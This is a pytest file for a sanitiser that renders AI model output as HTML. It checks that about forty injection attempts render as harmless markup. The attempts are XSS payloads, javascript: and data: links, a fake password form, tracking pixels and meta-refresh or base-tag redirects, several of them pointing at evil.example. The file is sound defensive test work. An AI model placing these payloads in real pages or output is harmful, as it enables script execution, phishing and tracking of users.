"""Text of a model is hostile until shown otherwise: a corpus of attempts, and what honest text keeps."""

from html.parser import HTMLParser

import pytest

from config.markup import ELEMENTS, rendered

ATTEMPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    '[x](https://evil.example/" onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "[![x](https://evil.example/pixel.gif)](https://evil.example/)",
    "<https://evil.example/?q=<script>alert(1)</script>>",
    "<javascript:alert(1)>",
    '<form action="https://evil.example"><input name=password><button>Sign in</button></form>',
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "# <script>alert(1)</script>",
    "[x]: javascript:alert(1)\n\n[x]",
    '[x](https://a.example "title\\" onclick=alert(1)")',
    "<span class='notice verified'>Verified</span>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<p style='position:fixed;inset:0'>over everything</p>",
    "<p id=main class=button hx-get=/desk/>x</p>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
]


class Seen(HTMLParser):
    """What a browser would make of the output."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))


def seen(text: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Seen()
    parser.feed(rendered(text))
    parser.close()
    return parser.elements


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_no_attempt_runs_loads_or_disguises_anything(attempt: str) -> None:
    for tag, attributes in seen(attempt):
        assert tag in ELEMENTS
        allowed = {"a": {"href", "rel"}, "ol": {"start"}, "span": {"class"}}.get(tag, set())
        assert set(attributes) <= allowed, (tag, attributes)
        if tag == "a" and "href" in attributes:
            assert (attributes["href"] or "").startswith(("http://", "https://"))
            assert attributes["rel"] == "nofollow ugc noopener"
        if tag == "span":
            assert attributes.get("class", "link-target") == "link-target"


def test_a_link_shows_where_it_leads() -> None:
    html = rendered("See [the catalogue](https://tinylink.example/k7Qd?ref=h2).")
    assert (
        '<a href="https://tinylink.example/k7Qd?ref=h2" rel="nofollow ugc noopener">the catalogue</a>' in html
    )
    assert '<span class="link-target">https://tinylink.example/k7Qd?ref=h2</span>' in html


def test_a_link_with_its_address_as_words_is_not_told_twice() -> None:
    assert "link-target" not in rendered("<https://example.org/>")


def test_an_image_becomes_words_and_is_never_loaded() -> None:
    html = rendered("![a cat](https://example.org/cat.png)")
    assert "<img" not in html
    assert "[image, not shown: a cat]" in html
    assert "https://example.org/cat.png" in html


def test_hidden_and_reordering_characters_are_written_out() -> None:
    html = rendered("user\u202egpj.exe and zero\u200bwidth")
    assert "[U+202E]" in html
    assert "[U+200B]" in html
    assert "\u202e" not in html


def test_joiners_of_scripts_and_emoji_stay() -> None:
    assert "می\u200cخواهم" in rendered("می\u200cخواهم")


def test_headings_leave_the_page_its_one_h1() -> None:
    assert rendered("# One") == "<h2>One</h2>\n"
    assert "<h4>" in rendered("## Two", top_heading=3)


def test_honest_text_keeps_its_form() -> None:
    html = rendered("A *word*, **strong**.\n\n> said\n\n1. one\n2. two\n\n---\n\n`code`")
    for part in (
        "<em>word</em>",
        "<strong>strong</strong>",
        "<blockquote>",
        "<ol>",
        "<hr>",
        "<code>code</code>",
    ):
        assert part in html


def test_nothing_gives_nothing() -> None:
    assert rendered("") == ""
